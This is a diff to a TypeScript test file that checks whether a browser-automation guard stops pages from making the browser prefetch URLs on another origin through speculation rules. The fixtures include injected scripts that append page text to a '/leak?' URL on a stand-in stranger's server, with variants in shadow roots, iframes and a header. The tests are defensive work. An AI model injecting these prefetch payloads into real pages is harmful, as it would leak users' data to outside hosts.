@@ -1,3 +1,4 @@
+import type { ServerResponse } from "node:http";
 import { afterAll, afterEach, beforeAll, describe, expect, jest, test } from "@jest/globals";
 import { type BookingCommand, BookResult } from "@agentic-pm/contracts/travel";
 import { browserWorld } from "./fakes/browser-world.ts";
@@ -164,6 +165,55 @@ describe("text that others put into the portal's pages", () => {
   });
 });
 
+describe("a page that would have the browser fetch ahead, past the guard", () => {
+  const rules = (url: string) => JSON.stringify({ prefetch: [{ urls: [url], eagerness: "immediate" }] });
+  const script = (url: string) => `<script type="speculationrules">${rules(url)}</script>`;
+
+  test.each<[string, (elsewhere: string) => { readonly html: string; readonly header?: string }]>([
+    ["as inert text", (elsewhere) => ({ html: script(`${elsewhere}/inert`) })],
+    [
+      "by a script",
+      (elsewhere) => ({
+        html: `<dd id=d>ZZ9</dd><script>const s = document.createElement("script"); s.type = "speculationrules";
+s.textContent = JSON.stringify({ prefetch: [{ urls: ["${elsewhere}/leak?" + d.textContent], eagerness: "immediate" }] });
+document.head.append(s)</script>`,
+      }),
+    ],
+    [
+      "inside a shadow root",
+      (elsewhere) => ({ html: `<div><template shadowrootmode=open>${script(`${elsewhere}/shadow`)}</template></div>` }),
+    ],
+    ["inside a frame", (elsewhere) => ({ html: `<iframe srcdoc='${script(`${elsewhere}/frame`)}'></iframe>` })],
+    [
+      "by a header",
+      (elsewhere) => ({
+        html: "<p>x</p>",
+        header: `"data:application/speculationrules+json,${encodeURIComponent(rules(`${elsewhere}/header`))}"`,
+      }),
+    ],
+  ])("%s asks nobody", async (_how, page) => {
+    const elsewhere = await strangersSite();
+    const { html, header } = page(elsewhere.origin);
+    const portal = await strangersSite((response) => {
+      response.setHeader("content-type", "text/html");
+      if (header !== undefined) response.setHeader("speculation-rules", header);
+      response.end(`<!doctype html><title>Portal</title><body>${html}`);
+    });
+    const session = await world.ports.browsers.start("fetch-ahead");
+    try {
+      const driver = await world.ports.browsers.connect(session, portal.origin);
+      await driver.goTo("/");
+      await driver.perform({ callId: "1", name: "wait", input: [1] }, []);
+      expect(portal.asked).toContain("GET /");
+      expect(elsewhere.asked).toEqual([]);
+      await driver.disconnect();
+    } finally {
+      await world.ports.browsers.stop(session);
+      await Promise.all([portal.close(), elsewhere.close()]);
+    }
+  });
+});
+
 describe("an act model that works for somebody else", () => {
   const box = (input: { observation: { idToBboxMap: object; simplifiedDOM: string } }, pattern: RegExp): string => {
     const line = input.observation.simplifiedDOM.split("\n").find((each) => pattern.test(each)) ?? "";
@@ -237,12 +287,14 @@ describe("an act model that works for somebody else", () => {
 });
 
 /** A site that notes who comes. */
-async function strangersSite() {
+async function strangersSite(
+  answer: (response: ServerResponse) => void = (response) => void response.end("<title>Stolen</title>"),
+) {
   const { createServer } = await import("node:http");
   const asked: string[] = [];
   const server = createServer((request, response) => {
     asked.push(`${request.method} ${request.url}`);
-    response.end("<title>Stolen</title>");
+    answer(response);
   });
   server.on("upgrade", (request, socket) => {
     asked.push(`UPGRADE ${request.url}`);
